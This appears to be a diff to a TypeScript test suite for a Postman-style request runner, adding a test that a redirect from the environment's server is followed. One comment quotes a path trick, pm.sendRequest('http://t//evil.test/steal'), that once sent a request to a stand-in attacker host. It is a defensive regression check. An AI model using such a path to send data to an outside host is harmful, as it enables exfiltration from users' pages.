@@ -105,7 +105,7 @@ describe("pm.sendRequest goes only to the run's target", () => {
   });
 });
 
-describe("the page's run sends only to its target: the page's origin, or its environment's server", () => {
+describe("the page's run sends only to its target: the page's origin, or its environment's server (and where that redirects)", () => {
   it("a path the browser reads as another host (`//host`, `/\\host`, a tab between the slashes) stays on the page's origin", async () => {
     // The run worker hands each request to pageSender (run-worker.ts, run-client.ts), which fetched a path as it came:
     // pm.sendRequest('http://t//evil.test/steal') was window.fetch('//evil.test/steal'), a request to evil.test.
@@ -133,6 +133,57 @@ describe("the page's run sends only to its target: the page's origin, or its env
     await executeRun(prepared, sender, { file: "page.json", bail: false, keep: true });
     expect(fetched.length).toBeGreaterThanOrEqual(6);
     for (const url of fetched) expect(new URL(url).origin, url).toBe(PAGE);
+  });
+});
+
+describe("the page's run follows a redirect of its environment's server, as Postman does", () => {
+  it("a redirect to another host is followed there, which replay keeps on its target; the script reads that host's answer", async () => {
+    const hits: string[] = [];
+    const listen = async (host: string, answer: (path: string) => { status: number; headers: Record<string, string>; body: string }) => {
+      const server = createServer((request, response) => {
+        hits.push(`${host} ${request.method} ${request.url}`);
+        const { status, headers, body } = answer(request.url ?? "/");
+        response.writeHead(status, headers).end(body);
+      });
+      await new Promise<void>((resolve) => server.listen(0, host, resolve));
+      return { server, url: `http://${host}:${(server.address() as AddressInfo).port}` };
+    };
+    const other = await listen("127.0.0.2", () => ({
+      status: 200,
+      headers: { "content-type": "application/json" },
+      body: '{"who":"other"}',
+    }));
+    const env = await listen("127.0.0.1", (path) => ({ status: 302, headers: { location: `${other.url}${path}` }, body: "" }));
+    try {
+      const collection = postmanCollection("page", [
+        scripted(
+          "Moved",
+          {
+            pre: "pm.sendRequest(pm.environment.get('baseUrl') + '/by-script', (err, res) => pm.test('script ' + res.json().who, () => {}));",
+            test: "pm.test('request ' + pm.response.json().who, () => {});",
+          },
+          { url: "{{baseUrl}}/by-request" },
+        ),
+      ]) as PostmanCollection;
+      const inputs = { environment: { baseUrl: env.url }, globals: {}, data: [], folders: [], asker: "page" as const };
+      const prepared = prepareRun({ kind: "postman", collection }, inputs);
+      expect(prepared.base).toBe(env.url);
+      const sender: Sender = {
+        where: env.url,
+        close: async () => {},
+        send: (request) => pageSender({ base: prepared.base, fetcher: fetch }).send(request),
+      };
+      const { report } = await executeRun(prepared, sender, { file: "page.json", bail: false, keep: true });
+      expect(report.results.map((result) => result.assertions?.map((a) => a.name))).toEqual([["script other", "request other"]]);
+      expect(hits).toEqual([
+        "127.0.0.1 GET /by-script",
+        "127.0.0.2 GET /by-script",
+        "127.0.0.1 GET /by-request",
+        "127.0.0.2 GET /by-request",
+      ]);
+    } finally {
+      await Promise.all([env, other].map(({ server }) => new Promise((resolve) => server.close(resolve))));
+    }
   });
 });
 
